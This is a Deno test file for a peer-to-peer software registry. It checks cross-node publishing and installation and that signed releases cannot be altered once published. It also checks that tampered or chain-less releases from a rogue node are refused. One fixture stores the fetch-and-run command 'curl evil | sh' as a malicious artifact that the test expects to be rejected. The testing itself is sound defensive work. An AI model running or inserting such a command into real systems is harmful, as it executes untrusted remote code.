/**
 * The registry on real in-memory nodes: publish on one node, list, info and
 * install on another that finds it through the DHT; tampered and unsigned
 * releases served by a rogue node are refused with typed errors and nothing
 * is installed; in a closed realm only a chain from the authority covering
 * the name lets a node publish.
 */
import { assert, assertEquals, assertRejects } from "../helpers/assert.ts";
import { joinedNodes, MemoryNetwork, until } from "../helpers/nodes.ts";
import { closedMesh, grant, newSigner, REALM, stopAll } from "../auth/helpers.ts";
import type { Node } from "../../src/api/node.ts";
import { domainSeparated } from "../../src/identity/domain-signature.ts";
import { KeyPair } from "../../src/identity/ed25519.ts";
import { encodeDidKey } from "../../src/identity/did.ts";
import {
  InvalidReleaseError,
  ReleaseNotFoundError,
  ReleaseSignatureError,
  ReleaseUnauthorizedError,
} from "../../src/registry/errors.ts";
import { encodeIndex, indexValueName, registryKey } from "../../src/registry/index-record.ts";
import { encodeRelease, signRelease } from "../../src/registry/release.ts";
import { decodeCbor, encodeCbor } from "../../src/wire/cbor.ts";

const opts = { sanitizeOps: false, sanitizeResources: false };
const NAME = "io.acme.sensor-agent";
const bytes = (text: string) => new TextEncoder().encode(text);

async function tempDir(): Promise<string> {
  return await Deno.makeTempDir({ prefix: "macula-registry-" });
}

Deno.test({
  name: "registry: published on one node, listed and installed verified on another across the mesh",
  ...opts,
  async fn() {
    const dir = await tempDir();
    const nodes = await joinedNodes(new MemoryNetwork(), 4, "chain");
    const [a, , , d] = nodes;
    try {
      await a.registry.publish(bytes("agent 1.3.0\n"), { name: NAME, version: "1.3.0", notes: "old" });
      await a.registry.publish(bytes("agent 1.4.0\n"), { name: NAME, version: "1.4.0", arch: "x86_64" });
      const list = await d.registry.list(NAME);
      assertEquals(list.map((r) => r.version), ["1.4.0", "1.3.0"]);
      assertEquals(list[0].issuer, a.did);
      const info = await d.registry.info(NAME, { version: "1.3.0" });
      assertEquals(info.notes, "old");
      await assertRejects(() => d.registry.info(NAME, { arch: "aarch64", version: "1.4.0" }), ReleaseNotFoundError);
      const { path, release } = await d.registry.install(NAME, { dir });
      assertEquals(release.version, "1.4.0");
      assertEquals(path, `${dir}/${NAME}@1.4.0`);
      assertEquals(await Deno.readTextFile(path), "agent 1.4.0\n");
      assertEquals((await Deno.stat(path)).mode! & 0o777, 0o755);
      const older = await d.registry.install(NAME, { dir, version: "1.3.0", file: "agent" });
      assertEquals(await Deno.readTextFile(older.path), "agent 1.3.0\n");
      // reinstalling over an existing file replaces it atomically
      await d.registry.install(NAME, { dir, version: "1.4.0", file: "agent" });
      assertEquals(await Deno.readTextFile(older.path), "agent 1.4.0\n");
      assertEquals((await Array.fromAsync(Deno.readDir(dir))).filter((e) => e.name.endsWith(".part")).length, 0);
      await assertRejects(() => d.registry.info("io.acme.missing"), ReleaseNotFoundError);
      // a version is immutable: the same bytes again are fine, other bytes are refused
      await a.registry.publish(bytes("agent 1.3.0\n"), { name: NAME, version: "1.3.0", notes: "old" });
      await assertRejects(
        () => a.registry.publish(bytes("agent 1.3.0 patched\n"), { name: NAME, version: "1.3.0" }),
        InvalidReleaseError,
        "immutable",
      );
    } finally {
      await stopAll(nodes);
      await Deno.remove(dir, { recursive: true });
    }
  },
});

/** Serve `record` as a release of `name` from `rogue`, as the registry would. */
async function serveRecord(rogue: Node, name: string, record: Uint8Array): Promise<void> {
  const realm = rogue.realms[0];
  const id = await rogue.content.publish(record, { pin: true, name });
  await rogue.dht.putValue(realm, indexValueName(name), encodeIndex([id.toString()]));
  await rogue.dht.provide(realm, registryKey(realm, name));
}

Deno.test({
  name: "registry: a tampered release from a rogue node is refused with ReleaseSignatureError, nothing installed",
  ...opts,
  async fn() {
    const dir = await tempDir();
    const key = KeyPair.generate();
    const nodes = await joinedNodes(new MemoryNetwork(), 3, "chain", (i) => i === 0 ? { keyPair: key } : {});
    const [rogue, , c] = nodes;
    try {
      const good = await rogue.content.publish(bytes("agent 2.0.0\n"), { pin: true });
      const signed = signRelease(
        { name: NAME, version: "2.0.0", mcid: good.toString(), size: good.size, arch: "any", notes: "" },
        encodeDidKey(key.publicKey),
        [],
        (domain, msg) => key.sign(domainSeparated(domain, msg)),
      );
      // a malicious artifact put in place of the signed one, keeping the signature
      const evil = await rogue.content.publish(bytes("curl evil | sh\n"), { pin: true });
      const wire = decodeCbor(encodeRelease(signed), "t") as Record<string, unknown>;
      await serveRecord(rogue, NAME, encodeCbor({ ...wire, m: evil.toString(), z: evil.size }));
      const error = await assertRejects(() => c.registry.install(NAME, { dir }), ReleaseSignatureError);
      assertEquals((error as ReleaseSignatureError).code, "E_RELEASE_SIGNATURE");
      assertEquals(await c.registry.list(NAME), []);
      assertEquals((await Array.fromAsync(Deno.readDir(dir))).length, 0);
    } finally {
      await stopAll(nodes);
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "registry: in a closed realm only a chain covering the name publishes; an unsigned-by-chain release is refused",
  ...opts,
  async fn() {
    const dir = await tempDir();
    const authority = newSigner();
    const rogueKey = KeyPair.generate();
    const nodes = await closedMesh(new MemoryNetwork(), authority, 3, (i) => i === 2 ? { keyPair: rogueKey } : {});
    const [a, b, rogue] = nodes;
    try {
      // everyone may use the mesh; only a may publish under io.acme.*
      // b may fetch content only under io.acme.*: the records and the artifact are served under the name
      for (const n of [a, rogue]) n.auth.addChain(grant(authority, n, "/macula/content"));
      b.auth.addChain(grant(authority, b, "/macula/content", [["like", ".name", "io.acme.*"]]));
      for (const n of nodes) n.auth.addChain(grant(authority, n, "/macula/pubsub"));
      a.auth.addChain(grant(authority, a, "/macula/registry", [["like", ".name", "io.acme.*"]]));
      await assertRejects(
        () => b.registry.publish(bytes("b's agent"), { name: NAME, version: "9.0.0" }),
        ReleaseUnauthorizedError,
        "no delegation chain",
      );
      await assertRejects(
        () => a.registry.publish(bytes("x"), { name: "io.globex.agent", version: "1.0.0" }),
        ReleaseUnauthorizedError,
      );
      const published = await a.registry.publish(bytes("agent 1.4.0\n"), { name: NAME, version: "1.4.0" });
      assertEquals(published.chain.length, 1);
      // the rogue signs a higher version without a chain and serves it
      const evil = await rogue.content.publish(bytes("evil 9.9.9\n"), { pin: true, name: NAME });
      const unsigned = signRelease(
        { name: NAME, version: "9.9.9", mcid: evil.toString(), size: evil.size, arch: "any", notes: "" },
        encodeDidKey(rogueKey.publicKey),
        [],
        (domain, msg) => rogueKey.sign(domainSeparated(domain, msg)),
      );
      await serveRecord(rogue, NAME, encodeRelease(unsigned));
      assertEquals((await b.registry.list(NAME)).map((r) => r.version), ["1.4.0"]);
      await assertRejects(() => b.registry.install(NAME, { dir, version: "9.9.9" }), ReleaseUnauthorizedError);
      const { release, path } = await b.registry.install(NAME, { dir });
      assertEquals(release.version, "1.4.0");
      assertEquals(await Deno.readTextFile(path), "agent 1.4.0\n");
      assert(b.realms.includes(REALM));
    } finally {
      await stopAll(nodes);
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "registry: published releases persist in the data dir and are announced again after a restart",
  ...opts,
  async fn() {
    const data = await tempDir();
    const dir = await tempDir();
    const network = new MemoryNetwork();
    const key = KeyPair.generate();
    let nodes = await joinedNodes(network, 2, "chain", (i) => i === 0 ? { keyPair: key, dataDir: data } : {});
    try {
      await nodes[0].registry.publish(bytes("agent 1.0.0\n"), { name: NAME, version: "1.0.0" });
      await stopAll(nodes);
      nodes = await joinedNodes(network, 2, "chain", (i) => i === 0 ? { keyPair: key, dataDir: data } : {});
      assertEquals(nodes[0].registry.known().map((r) => r.version), ["1.0.0"]);
      await until(async () => (await nodes[1].registry.list(NAME)).length === 1, 10_000, "re-announced");
      const { path } = await nodes[1].registry.install(NAME, { dir });
      assertEquals(await Deno.readTextFile(path), "agent 1.0.0\n");
    } finally {
      await stopAll(nodes);
      await Deno.remove(data, { recursive: true });
      await Deno.remove(dir, { recursive: true });
    }
  },
});
